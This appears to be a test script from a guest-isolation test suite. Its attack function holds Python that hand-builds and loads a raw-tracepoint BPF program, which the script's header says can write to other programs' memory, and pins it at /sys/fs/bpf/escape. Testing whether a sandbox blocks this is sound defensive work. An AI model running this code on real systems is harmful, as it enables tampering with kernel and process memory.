# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2317,SC2154
# tries: a BPF program loaded: raw-tracepoint, which may write to the memory of programs
# class: kernel
# where: guest
# needs: python3

# shellcheck source=guest.sh
. "${BASH_SOURCE[0]%/*}/guest.sh"

attack() {
	python3 - <<-'END'
		import ctypes, os, struct, sys
		libc = ctypes.CDLL(None, use_errno=True)
		def bpf(command, attr):
		    attr = ctypes.create_string_buffer(attr, 128)
		    ret = libc.syscall(321, command, attr, 128)
		    if ret < 0:
		        raise OSError(ctypes.get_errno(), f"bpf {command}")
		    return ret
		def load(kind, code, expected=0):
		    code = ctypes.create_string_buffer(b"".join(code), len(code) * 8)
		    name = ctypes.create_string_buffer(b"GPL")
		    return bpf(5, struct.pack("IIQQIIQII16sII", kind, len(code) // 8, ctypes.addressof(code),
		        ctypes.addressof(name), 0, 0, 0, 0, 0, b"escape", 0, expected))
		def insn(code, registers=0, offset=0, value=0):
		    return struct.pack("BBhi", code, registers, offset, value)
		code = [insn(0xBF, 0xA1), insn(0x07, 1, 0, -8), insn(0x7A, 0x0A, -8, 0), insn(0xBF, 0xA2),
		        insn(0x07, 2, 0, -8), insn(0xB7, 3, 0, 8), insn(0x85, 0, 0, 36), insn(0xB7), insn(0x95)]
		program = load(17, code)
		path = ctypes.create_string_buffer(b"/sys/fs/bpf/escape")
		bpf(6, struct.pack("QI", ctypes.addressof(path), program))
	END
}

damage() {
	if [[ -e /sys/fs/bpf/escape ]]; then echo 1; else echo 0; fi
}

restore() {
	rm -f /sys/fs/bpf/escape
}
